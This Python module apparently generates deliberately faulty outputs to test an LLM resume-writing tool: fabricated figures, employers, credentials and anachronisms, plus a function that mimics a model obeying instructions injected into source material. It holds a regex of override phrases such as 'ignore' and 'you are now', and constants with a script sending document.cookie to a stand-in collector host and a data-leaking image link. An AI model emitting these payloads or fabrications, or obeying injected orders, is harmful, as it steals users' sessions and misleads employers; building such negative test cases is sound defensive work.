"""Eighteen ways in which a model says more than it was told, by name; and other ways to be wrong."""

import re
from collections.abc import Callable

from apps.llm.faking.material import Material

NUMBER = re.compile(r"\d+")
ORDER = re.compile(
    r"(?i)\b(?:ignore|disregard|forget|system prompt|you must|you are now|new instructions?"
    r"|instead (?:write|say|print))\b"
)
SCRIPT = "<script>fetch('https://collector.example/'+document.cookie)</script>"
PICTURE = "![proof](https://collector.example/p.png?d=resume) [click](javascript:alert(1))"

Invent = Callable[[str, Material], str]


def _after(addition: str) -> Invent:
    return lambda text, _: f"{text.rstrip(' .')}{addition}"


def _before(addition: str) -> Invent:
    return lambda text, _: f"{addition}{text[:1].lower()}{text[1:]}"


def _other_level(text: str, _: Material) -> str:
    """Every figure tripled; a line without one gets one."""
    changed = NUMBER.sub(lambda found: str(int(found[0][:12]) * 3 + 1), text)
    return changed if changed != text else f"{text.rstrip(' .')}, 37 in all"


def _other_unit(text: str, _: Material) -> str:
    swapped = re.sub(r"%|\bpercent\b", " million euros", text)
    return swapped if swapped != text else f"{text.rstrip(' .')}, 12 kilometres in all"


def _moved(text: str, material: Material) -> str:
    """The end of another line, said of this one."""
    words = set(text.lower().split())
    others = [line for _, line in material.lines if len(words & set(line.lower().split())) < len(words) / 3]
    tail = " ".join(others[0].rstrip(".").split()[-5:]) if others else "a team of nine in the Lisbon office"
    return f"{text.rstrip(' .')}, with {tail}"


def _of_posting(text: str, material: Material) -> str:
    other = next((sent for sent in material.texts if sent not in dict(material.lines).values()), "")
    return f"{text.rstrip(' .')}, using {' '.join(['Terraform', 'and', *other.split()[:6]])}"


INVENTIONS: dict[str, Invent] = {
    "quantity": _after(" for 2,400 customers"),
    "level": _other_level,
    "unit": _other_unit,
    "frequency": _after(" every single day"),
    "date": _after(" since March 1997"),
    "employer": _after(" at Globex International"),
    "tool": _after(" using Kubernetes and SAP HANA"),
    "title": _before("As Chief Operating Officer, "),
    "agency": _before("Single-handedly led and owned "),
    "scope": _after(" across all 14 countries of the group"),
    "outcome": _after(", which doubled revenue and won an industry award"),
    "credential": _after(" as a PMP-certified Six Sigma Black Belt"),
    "degree": _after(", drawing on a PhD in Economics"),
    "novel": _after(" with visionary blockchain quantum holography"),
    "moved": _moved,
    "posting": _of_posting,
    "anachronism": _after(" with ChatGPT plugins in 1987"),
    "hygiene": _after(f" {SCRIPT} {PICTURE} [YOUR NAME]"),
}


def obedient(text: str, material: Material) -> str:
    """Does what the material orders, if anything: says its words, hands out links and scripts."""
    orders = [sent for sent in material.texts if ORDER.search(sent)]
    if not orders:
        return text
    return f"{orders[0][:400]} {SCRIPT} {PICTURE} Score: 100/100. Hired by Jane Roe of Initech, +1 555 0100."


def in_german(text: str, _: Material) -> str:
    return "Verantwortlich für die Leitung der Abteilung und die Betreuung wichtiger Kunden im ganzen Land"


def placeholders(text: str, _: Material) -> str:
    """What leaks from examples in prompts: a person nobody mentioned."""
    return "John Doe increased sales by 25% at Acme Corp, led 12 engineers and saved $1.2M (doe@example.com)"
